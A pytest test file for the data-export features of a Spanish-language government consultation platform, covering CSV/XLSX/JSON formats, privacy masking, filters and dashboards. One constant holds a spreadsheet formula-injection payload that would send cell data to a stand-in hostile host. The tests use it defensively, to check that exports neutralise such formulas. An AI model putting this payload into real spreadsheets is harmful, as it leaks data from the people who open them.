"""Exports: the contributions table for each audience, its formats, Cuadro 4, filters,
the data package, the CLI, the per-institution pack and the dashboard."""

import csv
import hashlib
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from bs4 import BeautifulSoup
from sqlalchemy import insert

from forum import clock
from forum.consultation import services as consultation_services
from forum.consultation.models import Contribution, Draft
from forum.export import formats, rows, summaries
from forum.export.privacy import mask_emails
from forum.extensions import db
from forum.moderation.models import ContributionGroup, Tag, contribution_tags
from tests.conftest import login
from tests.factories import make_user

# Cuadro 4 of the 2017 systematisation (seed 003): theme, forum, e-mail, total.
CUADRO_4 = [
    ["Temática", "Vía foro virtual", "Vía correo", "Total aportes"],
    ["Salud", 2, 1, 3],
    ["Ambiente", 1, 2, 3],
    ["Infraestructura", 2, 2, 4],
    ["Educación", 2, 1, 3],
    ["Seguridad ciudadana", 3, 3, 6],
    ["Saneamiento", 0, 1, 1],
    ["Total", 10, 10, 20],
]
THEMES = [  # slug, code, responsible institution
    ("salud", "SAL-1", "Ministerio de Salud"),
    ("ambiente", "AMB-1", "Ministerio del Ambiente"),
    ("infraestructura", "INF-1", "Ministerio de Transportes y Comunicaciones"),
    ("educacion", "EDU-1", "Ministerio de Educación"),
    ("seguridad-ciudadana", "SEG-1", "Ministerio del Interior"),
    ("saneamiento", "SAN-1", "Ministerio de Vivienda, Construcción y Saneamiento"),
]
OPENS = "2017-09-22T08:00"
EMAIL_RE = re.compile(r"[\w.+-]+@[\w-]+(\.[\w-]+)+")
HYPERLINK = '=HYPERLINK("http://malo.example/?d="&A1;"clic")'


def seed_2017():
    """The 2017 consultation: six themes in Cuadro 4's order, 10 forum and 10 e-mail
    contributions in its proportions, over the two-week window."""
    data = {
        "consultation": {
            "slug": "paga-2017",
            "title": "Plan de Acción de Gobierno Abierto 2017-2019",
            "opens_at": OPENS,
            "closes_at": "2017-10-06T23:59",
        },
        "themes": [
            {
                "slug": slug,
                "name": name,
                "drafts": [
                    {
                        "code": code,
                        "title": f"Compromiso de {name.lower()}",
                        "responsible_institution": institution,
                    }
                ],
            }
            for (slug, code, institution), name in zip(
                THEMES, [r[0] for r in CUADRO_4[1:-1]], strict=True
            )
        ],
    }
    consultation = consultation_services.import_consultation(data, actor="test")
    users = [
        make_user(
            name="Ana Quispe", organisation="Red de Agua", organisation_type="ong", region="cusco"
        ),
        make_user(
            name="Luis Huamán",
            organisation="Universidad Nacional",
            organisation_type="academia",
            region="arequipa",
            is_name_public=False,
        ),
        make_user(
            name="Rosa Mamani",
            organisation="Municipalidad",
            organisation_type="entidad-publica",
            region="la-libertad",
        ),
    ]
    start = clock.parse_lima(OPENS)
    n = 0
    for (_, code, _), (_, web, email, _) in zip(THEMES, CUADRO_4[1:-1], strict=True):
        draft = db.session.scalar(db.select(Draft).where(Draft.code == code))
        for i in range(web):
            consultation_services.add_contribution(
                consultation=consultation,
                draft=draft,
                body=f"Aporte del foro sobre {code} nº {i}, ñandú.",
                channel="web",
                author=users[n % 3],
                received_at=start + timedelta(hours=7 * n),
            )
            n += 1
        for i in range(email):
            consultation_services.add_contribution(
                consultation=consultation,
                draft=draft,
                body=f"Aporte por correo sobre {code} nº {i}.",
                channel="email",
                author_name=f"Remitente {n}",
                author_email=f"remitente{n}@correo.example",
                forwarded_by="mesa@pcm.example" if n % 2 else "",
                received_at=start + timedelta(hours=7 * n),
            )
            n += 1
    db.session.commit()
    return consultation


@pytest.fixture
def case_2017(app):
    return seed_2017()


@pytest.fixture
def staff(client, case_2017):
    make_user(role="moderator", email="moderadora@aporta.example")
    db.session.commit()
    login(client, "moderadora@aporta.example")
    return client


def contributions():
    return db.session.scalars(db.select(Contribution).order_by(Contribution.id)).all()


def read_csv(response) -> list[dict]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def workbook(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(response.get_data()))


def sheet_values(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# --------------------------------------------------------------------------- Cuadro 4


@pytest.mark.parametrize("url", ["/datos/aportes.xlsx", "/datos/secretaria/aportes.xlsx"])
def test_resumen_sheet_reproduces_cuadro_4_cell_by_cell(staff, url):
    book = workbook(staff.get(url))
    assert book.sheetnames[:3] == ["Aportes", "Resumen", "Participantes"]
    resumen = sheet_values(book["Resumen"])
    assert resumen[0][0] == "Cuadro 4: Número de aportes según vía y temática"
    assert [row[:4] for row in resumen[2:10]] == CUADRO_4


def test_dashboards_reproduce_cuadro_4_cell_by_cell(staff):
    for url in ("/datos/panel", "/datos/secretaria/panel"):
        page = BeautifulSoup(staff.get(url).get_data(as_text=True), "html.parser")
        table = page.find("caption", string=re.compile("Cuadro 4")).parent
        cells = [
            [cell.get_text(strip=True) for cell in row.find_all(["th", "td"])]
            for row in table.find_all("tr")
        ]
        assert cells == [[str(cell) for cell in row] for row in CUADRO_4]
        chart = page.find("svg", attrs={"role": "img"})
        assert chart.find("title").get_text().startswith("Aportes por temática y vía")


def test_theme_channel_summary_counts_every_channel_and_theme(case_2017):
    table = summaries.theme_channel(case_2017, summaries.Filters())
    assert [table.headings, *table.rows] == CUADRO_4


def test_xlsx_has_one_sheet_per_theme_frozen_filtered_and_metadata(staff):
    response = staff.get("/datos/secretaria/aportes.xlsx")
    book = workbook(response)
    assert book.sheetnames == [
        "Aportes",
        "Resumen",
        "Participantes",
        "Salud",
        "Ambiente",
        "Infraestructura",
        "Educación",
        "Seguridad ciudadana",
        "Saneamiento",
        "Metadatos",
    ]
    aportes = book["Aportes"]
    assert aportes.freeze_panes == "A2"
    assert aportes.auto_filter.ref.startswith("A1:")
    assert aportes["A1"].value == "ID" and aportes.max_row == 21
    assert book["Seguridad ciudadana"].max_row == 7
    assert [r[7] for r in sheet_values(book["Salud"])[1:]] == ["Foro virtual"] * 2 + [
        "Correo electrónico"
    ]
    meta = dict(sheet_values(book["Metadatos"]))
    assert meta["Filas"] == "20"
    assert meta["Audiencia"] == "Secretaría (datos personales)"
    csv_body = staff.get("/datos/secretaria/aportes.csv").get_data()
    assert meta["SHA-256 de los datos (CSV equivalente)"] == hashlib.sha256(csv_body).hexdigest()
    assert response.headers["X-Aporta-SHA256"] == hashlib.sha256(response.get_data()).hexdigest()
    participantes = sheet_values(book["Participantes"])
    assert participantes[0][0].startswith("Cuadro 1")
    assert ["Total", 13, "100.0%"] in [row[:3] for row in participantes]  # 3 users + 10 senders


# --------------------------------------------------------------------------- formats


def test_csv_is_utf8_with_bom_crlf_and_keeps_accents_and_line_breaks(staff):
    first = contributions()[0]
    first.body = 'Línea uno con tildes: ñandú, acción.\nLínea dos, «comillas» y "dobles".'
    db.session.commit()
    response = staff.get("/datos/aportes.csv")
    assert response.is_streamed
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response)
    assert list(rows[0])[:4] == ["id", "permalink", "consultation", "theme"]
    assert rows[0]["text"] == first.body
    assert rows[0]["permalink"] == f"http://localhost/aportes/{first.id}"
    assert rows[0]["received_at"] == "2017-09-22T08:00:00-05:00"
    assert rows[0]["channel"] == "web" and rows[0]["is_late"] == "false"
    assert len(rows) == 20


def test_a_hyperlink_formula_is_text_in_csv_and_xlsx(staff):
    target = contributions()[0]
    target.body = HYPERLINK
    db.session.commit()
    for url in ("/datos/aportes", "/datos/secretaria/aportes"):
        rows = read_csv(staff.get(url + ".csv"))
        assert rows[0]["text"] == "'" + HYPERLINK
        response = staff.get(url + ".xlsx")
        sheet = workbook(response)["Aportes"]
        headings = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=headings.index("Texto del aporte") + 1)
        assert cell.value == "'" + HYPERLINK and cell.data_type == "s"
        with zipfile.ZipFile(io.BytesIO(response.get_data())) as xlsx:
            for name in xlsx.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in xlsx.read(name), name


def test_json_has_metadata_rows_and_the_csv_checksum(staff):
    response = staff.get("/datos/secretaria/aportes.json?canal=email")
    assert response.is_streamed
    document = json.loads(response.get_data())
    assert document["metadata"]["filters"] == {"channel": "email"}
    assert document["metadata"]["audience"] == "secretariat"
    assert document["metadata"]["generated_at"].endswith("-05:00")
    assert document["row_count"] == 10 == len(document["contributions"])
    row = document["contributions"][0]
    assert row["author_email"].endswith("@correo.example") and row["tags"] == []
    assert row["is_late"] is False and row["parent_id"] is None
    csv_body = staff.get("/datos/secretaria/aportes.csv?canal=email").get_data()
    assert document["rows_sha256"] == hashlib.sha256(csv_body).hexdigest()
    assert response.headers["X-Aporta-Filters"] == '{"channel": "email"}'


# --------------------------------------------------------------------------- audiences


SECRETARIAT_URLS = [
    "/datos/secretaria/",
    "/datos/secretaria/panel",
    "/datos/secretaria/aportes.csv",
    "/datos/secretaria/aportes.json",
    "/datos/secretaria/aportes.xlsx",
    "/datos/secretaria/entidades/ministerio-de-salud.xlsx",
]


@pytest.mark.parametrize("url", SECRETARIAT_URLS)
def test_a_citizen_gets_403_and_an_anonymous_visitor_is_sent_to_log_in(client, case_2017, url):
    assert client.get(url).status_code == 302
    make_user(email="ciudadana@correo.example")
    db.session.commit()
    login(client, "ciudadana@correo.example")
    response = client.get(url)
    assert response.status_code == 403
    assert b"correo.example" not in response.get_data()


@pytest.mark.parametrize("role", ["moderator", "admin"])
def test_moderators_and_admins_get_the_secretariat_export(client, case_2017, role):
    make_user(role=role, email=f"{role}@aporta.example")
    db.session.commit()
    login(client, f"{role}@aporta.example")
    rows = read_csv(client.get("/datos/secretaria/aportes.csv"))
    email_rows = [row for row in rows if row["channel"] == "email"]
    assert all(row["author_email"].startswith("remitente") for row in email_rows)
    assert {row["forwarded_by"] for row in email_rows} == {"", "mesa@pcm.example"}
    assert {row["author_name"] for row in rows if row["channel"] == "web"} == {
        "Ana Quispe",
        "Luis Huamán",
        "Rosa Mamani",
    }


def test_public_export_names_only_with_consent_and_pseudonyms_otherwise(client, case_2017):
    rows = read_csv(client.get("/datos/aportes.csv"))
    assert "author_email" not in rows[0] and "forwarded_by" not in rows[0]
    by_id = {int(row["id"]): row for row in rows}
    for contribution in contributions():
        row = by_id[contribution.id]
        assert row["author_name"] == contribution.public_author
        if contribution.author and not contribution.author.is_name_public:
            assert row["author_name"] == f"Participante {contribution.author_id}"
            assert row["organisation"] == ""
        if contribution.author is None:
            assert row["author_name"] == f"Participante (aporte {contribution.id})"
    assert "Luis Huamán" not in client.get("/datos/aportes.json").get_data(as_text=True)


def test_hidden_contributions_are_stubs_with_the_reason_in_public_and_whole_for_staff(staff):
    hidden = contributions()[0]
    hidden.moderation_state, hidden.hidden_reason = "hidden", "insulto"
    hidden.synthesis = "Síntesis interna"
    db.session.commit()
    staff_row = read_csv(staff.get("/datos/secretaria/aportes.csv"))[0]
    assert staff_row["text"] == hidden.body and staff_row["author_name"] == "Ana Quispe"
    public = json.loads(staff.get("/datos/aportes.json").get_data())["contributions"][0]
    assert public["moderation_state"] == "hidden" and public["hidden_reason"] == "insulto"
    assert public["text"] == "" and public["author_name"] == "" and public["organisation"] == ""
    assert public["synthesis"] == "" and public["draft_code"] == "SAL-1"
    assert public["id"] == hidden.id and public["received_at"].startswith("2017-09-22")
    header, first_row = sheet_values(workbook(staff.get("/datos/aportes.xlsx"))["Aportes"])[:2]
    shown = dict(zip(header, first_row, strict=True))
    assert (
        shown["Estado"] == "Oculto"
        and shown["Motivo de ocultamiento"] == "Insultos o lenguaje ofensivo"
    )
    assert shown["Texto del aporte"] is None and shown["Autor o autora"] is None


def test_public_export_holds_no_email_address_whatever_the_data(staff, case_2017):
    planted = "fuga{}@filtrado.example"
    first, second, *_ = contributions()
    first.body = (
        f"Escríbanme a {planted.format(1)} o <{planted.format(2)}>, mailto:{planted.format(3)}."
    )
    first.response = f"Respondido a {planted.format(4)}"
    first.synthesis = planted.format(5)
    second.author_name = planted.format(6)
    first.author.name = planted.format(7)
    first.author.organisation = f"ONG {planted.format(8)}"
    second.draft.title = f"Borrador {planted.format(9)}"
    second.draft.responsible_institution = planted.format(10)
    tag = Tag(slug="correo", name=f"etiqueta {planted.format(11)}")
    db.session.add(tag)
    db.session.flush()
    db.session.execute(insert(contribution_tags).values(contribution_id=first.id, tag_id=tag.id))
    case_2017.responses_published_at = clock.now() - timedelta(days=1)
    db.session.commit()

    downloads = {fmt: staff.get(f"/datos/aportes.{fmt}").get_data() for fmt in ("csv", "json")}
    for fmt in ("xlsx", "zip"):
        with zipfile.ZipFile(io.BytesIO(staff.get(f"/datos/aportes.{fmt}").get_data())) as archive:
            for name in archive.namelist():
                downloads[f"{fmt}:{name}"] = archive.read(name)
    downloads["panel"] = staff.get("/datos/panel").get_data()
    downloads["index"] = staff.get("/datos/").get_data()
    for name, content in downloads.items():
        text = content.decode("utf-8", errors="replace")
        assert not EMAIL_RE.search(text), (name, EMAIL_RE.search(text))
        assert "correo.example" not in text and "pcm.example" not in text, name
    row = json.loads(downloads["json"])["contributions"][0]
    assert row["text"] == ("Escríbanme a [correo oculto] o <[correo oculto]>, [correo oculto].")
    assert row["response"] == "Respondido a [correo oculto]"
    # The secretariat still sees everything as written.
    staff_rows = read_csv(staff.get("/datos/secretaria/aportes.csv"))
    assert planted.format(1) in staff_rows[0]["text"]


def test_mask_emails_keeps_text_around_addresses():
    assert mask_emails("Hola, ana.perez+consulta@gob.pe.") == "Hola, [correo oculto]."
    assert mask_emails("sin arroba") == "sin arroba"
    assert mask_emails("@usuaria en redes") == "@usuaria en redes"


def test_responses_stay_out_of_the_public_export_until_published(staff, case_2017):
    first = contributions()[0]
    first.disposition, first.response = "incorporado", "Se incorporó al compromiso."
    db.session.commit()
    assert read_csv(staff.get("/datos/aportes.csv"))[0]["disposition"] == ""
    assert read_csv(staff.get("/datos/secretaria/aportes.csv"))[0]["disposition"] == "incorporado"
    case_2017.responses_published_at = clock.now() - timedelta(minutes=1)
    db.session.commit()
    row = read_csv(staff.get("/datos/aportes.csv"))[0]
    assert row["disposition"] == "incorporado" and row["response"] == "Se incorporó al compromiso."


def test_grouped_contributions_take_synthesis_disposition_and_response_from_the_group(staff):
    first, second, third, *_ = contributions()
    group = ContributionGroup(
        consultation_id=first.consultation_id,
        synthesis="Síntesis común",
        disposition="no-incorporado",
        response="Razón común",
    )
    db.session.add(group)
    db.session.flush()
    first.group_id = second.group_id = group.id
    second.synthesis = "propia"
    third.disposition = "derivado"
    db.session.commit()
    rows = {int(r["id"]): r for r in read_csv(staff.get("/datos/secretaria/aportes.csv"))}
    for member in (first, second):
        row = rows[member.id]
        assert (row["synthesis"], row["disposition"], row["response"]) == (
            "Síntesis común",
            "no-incorporado",
            "Razón común",
        )
        assert row["group_id"] == str(group.id) and row["group_size"] == "2"
    assert rows[third.id]["disposition"] == "derivado" and rows[third.id]["group_size"] == ""
    filtered = read_csv(staff.get("/datos/secretaria/aportes.csv?disposicion=no-incorporado"))
    assert {int(r["id"]) for r in filtered} == {first.id, second.id}


def test_rows_read_in_small_chunks_give_the_same_files(staff, monkeypatch):
    """Tags, neutralised cells and hidden stubs do not depend on where a chunk ends."""
    clock.travel_to(clock.parse_lima("2017-10-10T12:00"))
    _, second, third, fourth, *_ = contributions()
    smart, formula = Tag(slug="smart", name="SMART"), Tag(slug="agua", name="=Agua")
    db.session.add_all([smart, formula])
    db.session.flush()
    for contribution in (third, fourth):  # on both sides of the end of a 3-row chunk
        for tag in (smart, formula):
            db.session.execute(
                insert(contribution_tags).values(contribution_id=contribution.id, tag_id=tag.id)
            )
    second.body = "-1 al presupuesto"
    fourth.moderation_state, fourth.hidden_reason = "hidden", "insulto"
    db.session.commit()
    urls = [
        f"/datos/{audience}aportes.{fmt}"
        for audience in ("", "secretaria/")
        for fmt in ("csv", "json", "xlsx")
    ]

    def files() -> dict:
        found = {}
        for url in urls:
            response = staff.get(url)
            if url.endswith(".xlsx"):
                book = workbook(response)
                found[url] = {name: sheet_values(book[name]) for name in book.sheetnames}
            else:
                found[url] = response.get_data()
        return found

    whole = files()
    monkeypatch.setattr(rows, "CHUNK", 3)
    assert files() == whole
    staff_rows = {int(r["id"]): r for r in read_csv(staff.get("/datos/secretaria/aportes.csv"))}
    assert staff_rows[third.id]["tags"] == staff_rows[fourth.id]["tags"] == "'=Agua; SMART"
    assert staff_rows[second.id]["text"] == "'-1 al presupuesto"
    public = json.loads(whole["/datos/aportes.json"])["contributions"]
    assert [row["tags"] for row in public[1:4]] == [[], ["=Agua", "SMART"], []]
    assert public[1]["text"] == "-1 al presupuesto"  # JSON keeps the text as written


def test_only_cells_a_spreadsheet_would_run_are_neutralised():
    cells = [
        ["=1+1", "¿Por qué?", 3, "texto"],
        ["normal", "(entre paréntesis)", None, "@usuaria"],
        ["a", "b", 1, "+51 1 234 5678"],
        ["sin", "nada", 2, "raro"],
    ]
    formats.neutralise(cells, (0, 1, 3))
    assert cells == [
        ["'=1+1", "¿Por qué?", 3, "texto"],
        ["normal", "(entre paréntesis)", None, "'@usuaria"],
        ["a", "b", 1, "'+51 1 234 5678"],
        ["sin", "nada", 2, "raro"],
    ]


@pytest.mark.parametrize(
    "start",
    ["1890-01-01T04:00", "1908-07-28T04:00", "1994-01-01T04:00", "1994-04-01T03:00", "2017-09-22"],
)
def test_lima_times_match_the_tz_database_across_changes_of_rule(start):
    lima_time = rows.LimaTime()
    for minutes in range(0, 3 * 60, 7):
        instant = datetime.fromisoformat(start) + timedelta(minutes=minutes, seconds=minutes % 60)
        expected = instant.replace(tzinfo=UTC).astimezone(clock.LIMA).isoformat()
        assert lima_time(instant) == expected, instant


# --------------------------------------------------------------------------- filters


def test_every_filter_narrows_the_rows(staff):
    first = contributions()[0]
    tag = Tag(slug="smart", name="SMART")
    db.session.add(tag)
    db.session.flush()
    db.session.execute(insert(contribution_tags).values(contribution_id=first.id, tag_id=tag.id))
    db.session.commit()

    def ids(query):
        return [int(r["id"]) for r in read_csv(staff.get(f"/datos/secretaria/aportes.csv?{query}"))]

    assert len(ids("tema=seguridad-ciudadana")) == 6
    assert len(ids("borrador=inf-1")) == 4
    assert len(ids("canal=web")) == 10
    assert ids("etiqueta=smart") == [first.id]
    # 7 hours apart from 2017-09-22 08:00 Lima: four on the 22nd, then 3-4 a day.
    assert len(ids("desde=2017-09-22&hasta=2017-09-22")) == 3
    assert len(ids("desde=2017-09-23")) == 17
    assert len(ids("tema=salud&canal=email")) == 1
    rows = read_csv(staff.get("/datos/aportes.csv?tema=salud"))
    assert {r["tags"] for r in rows} == {"SMART", ""}


@pytest.mark.parametrize(
    "query, message",
    [
        ("tema=nada", "La temática «nada» no existe"),
        ("borrador=X-9", "El borrador «X-9» no existe"),
        ("canal=fax", "La vía «fax» no existe"),
        ("desde=22/09/2017", "escríbela como AAAA-MM-DD"),
        ("desde=2017-10-02&hasta=2017-09-30", "debe ser anterior"),
        ("disposicion=quizas", "La disposición «quizas» no existe"),
        ("etiqueta=nada", "La etiqueta «nada» no existe"),
    ],
)
def test_unknown_filters_are_refused_in_spanish(client, case_2017, query, message):
    response = client.get(f"/datos/aportes.csv?{query}")
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)


# --------------------------------------------------------------------------- open data


def test_public_data_package_validates_with_frictionless(client, case_2017, tmp_path):
    from frictionless import Package, validate

    response = client.get("/datos/aportes.zip")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        archive.extractall(tmp_path)
    descriptor = json.loads((tmp_path / "datapackage.json").read_text("utf-8"))
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    names = [f["name"] for f in descriptor["resources"][0]["schema"]["fields"]]
    assert "author_email" not in names and names[:3] == ["id", "permalink", "consultation"]
    report = validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    package = Package(str(tmp_path / "datapackage.json"))
    rows = package.get_resource("aportes").read_rows()
    assert len(rows) == 20 and rows[0]["received_at"].utcoffset() == timedelta(hours=-5)
    summary = package.get_resource("aportes-por-tematica-y-via").read_rows()
    assert [list(r.values()) for r in summary] == CUADRO_4[1:]


# --------------------------------------------------------------------------- CLI


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_cli_writes_each_format_with_sidecars_and_progress(runner, case_2017, tmp_path, fmt):
    out = tmp_path / f"aportes.{fmt}"
    result = runner.invoke(args=["export", fmt, "--out", str(out), "--channel", "email"])
    assert result.exit_code == 0, result.output
    assert "Exportando 10 aportes" in result.output and "10 filas" in result.output
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    assert (tmp_path / f"aportes.{fmt}.sha256").read_text() == f"{digest}  aportes.{fmt}\n"
    meta = json.loads((tmp_path / f"aportes.{fmt}.metadata.json").read_text("utf-8"))
    assert meta["filters"] == {"channel": "email"} and meta["row_count"] == 10
    assert meta["audience"] == "secretariat" and meta["file_sha256"] == digest
    assert b"remitente" in (out.read_bytes() if fmt != "xlsx" else b"remitente")


def test_cli_public_flag_and_data_package(runner, case_2017, tmp_path):
    out = tmp_path / "publico.csv"
    assert runner.invoke(args=["export", "csv", "--public", "--out", str(out)]).exit_code == 0
    text = out.read_text("utf-8-sig")
    assert "author_email" not in text and not EMAIL_RE.search(text)
    package = tmp_path / "paquete.zip"
    result = runner.invoke(
        args=["export", "datapackage", "--out", str(package), "--theme", "salud"]
    )
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(package) as archive:
        descriptor = json.loads(archive.read("datapackage.json"))
    assert descriptor["aporta"] == {"filters": {"theme": "salud"}, "row_count": 3}


def test_cli_refuses_an_unknown_filter_in_spanish(runner, case_2017, tmp_path):
    result = runner.invoke(
        args=["export", "csv", "--out", str(tmp_path / "x.csv"), "--theme", "nada"]
    )
    assert result.exit_code != 0 and "La temática «nada» no existe" in result.output


# --------------------------------------------------------------------------- per-institution pack


def test_institution_pack_holds_only_its_drafts_and_no_email(staff, runner, tmp_path):
    index = staff.get("/datos/secretaria/").get_data(as_text=True)
    assert "Ministerio del Interior" in index and "(6 aportes)" in index
    response = staff.get("/datos/secretaria/entidades/ministerio-del-interior.xlsx")
    book = workbook(response)
    rows = sheet_values(book["Aportes"])[1:]
    assert len(rows) == 6 and {row[4] for row in rows} == {"SEG-1"}
    assert [row[:4] for row in sheet_values(book["Resumen"])[2:5]] == [
        CUADRO_4[0],
        ["Seguridad ciudadana", 3, 3, 6],
        ["Total", 3, 3, 6],
    ]
    for name in book.sheetnames:
        for row in sheet_values(book[name]):
            assert not any(EMAIL_RE.search(str(cell)) for cell in row if cell), (name, row)
    out = tmp_path / "interior.xlsx"
    result = runner.invoke(
        args=["export", "pack", "--institution", "Ministerio del Interior", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert len(sheet_values(openpyxl.load_workbook(out)["Aportes"])) == 7
    assert staff.get("/datos/secretaria/entidades/nadie.xlsx").status_code == 400


# --------------------------------------------------------------------------- dashboard


def test_small_counts_are_suppressed_with_secondary_cells():
    # rows: two regions; columns: two types; last row/column are totals.
    full = [[6, 2, 8], [7, 9, 16], [13, 11, 24]]
    hidden = summaries.suppressed(full, 5)
    assert (0, 1) in hidden  # the 2
    # Its row and column each need a second hidden cell, so 2 cannot be worked out.
    assert sum(1 for c in range(3) if (0, c) in hidden) >= 2
    assert sum(1 for r in range(3) if (r, 1) in hidden) >= 2
    assert (2, 2) not in hidden


def test_public_dashboard_suppresses_small_counts_and_the_secretariat_sees_them(staff, app):
    public = staff.get("/datos/panel").get_data(as_text=True)
    assert "&lt;5" in public and "Las cifras menores que 5" in public
    secretariat = staff.get("/datos/secretaria/panel").get_data(as_text=True)
    assert "&lt;5" not in secretariat
    app.config["EXPORT_SUPPRESS_BELOW"] = 2
    assert "&lt;2" in staff.get("/datos/panel").get_data(as_text=True)


def test_dashboard_counts_by_day_visits_and_share_with_response(staff, case_2017):
    first, second, third, *_ = contributions()
    first.disposition = "incorporado"
    second.response = "Gracias, lo revisaremos."
    third.moderation_state, third.hidden_reason = "hidden", "spam"
    draft = first.draft
    draft.visit_count, draft.theme.visit_count = 952, 1000
    db.session.commit()
    share = summaries.response_share(case_2017, summaries.Filters())
    assert (share.answered, share.total) == (2, 19)
    days = summaries.by_day(case_2017, summaries.Filters())
    assert days[0][0].isoformat() == "2017-09-22" and sum(days[0][1].values()) == 3
    assert sum(sum(n.values()) for _, n in days) == 20
    page = staff.get("/datos/secretaria/panel").get_data(as_text=True)
    assert "11 %" in page.replace("&nbsp;", " ") and "(2 de 19)" in page
    assert "952" in page and "Aportes por día" in page
    public = staff.get("/datos/panel").get_data(as_text=True)
    assert "se publicarán cuando termine" in public
